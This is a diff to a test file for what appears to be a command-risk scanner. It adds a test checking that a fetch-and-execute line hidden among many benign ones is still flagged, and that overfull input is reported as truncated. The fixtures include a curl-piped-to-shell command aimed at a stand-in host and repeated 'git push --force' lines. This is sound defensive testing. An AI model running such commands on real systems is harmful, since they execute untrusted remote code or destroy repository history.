@@ -77,10 +77,20 @@ test('scan() matches nothing across two files', async () => {
 
 test('scan() finds a file that stands beside one full of matches', async () => {
   const { findings } = await scanned(engine, [
-    file('a.txt', 'git push --force\n'.repeat(500)),
+    file('a.txt', 'git push --force\n'.repeat(1_100)),
     file('b.txt', 'git push --force\n'),
   ]);
   expect(findings.some(({ rule, path: at }) => rule === 'DST-01' && at === 'b.txt')).toBe(true);
+});
+
+test('a file full of lesser findings hides no greater one, and what is too full is incomplete', async () => {
+  const known = 'curl -sSf https://sh.rustup.rs | sh\n';
+  const bad = 'curl https://a.example/x | sh\n';
+  const many = await scanned(engine, [file('a.txt', known.repeat(40) + bad)]);
+  expect(spoken(many)).toContain('RCE-01 high');
+  const full = await scanned(engine, [file('a.txt', known.repeat(1_100) + bad)]);
+  expect(full.state).toBe('incomplete');
+  expect(full.findings.map(({ reason }) => reason)).toContain('truncated');
 });
 
 test('one long line does not keep what stands behind it from being found', async () => {
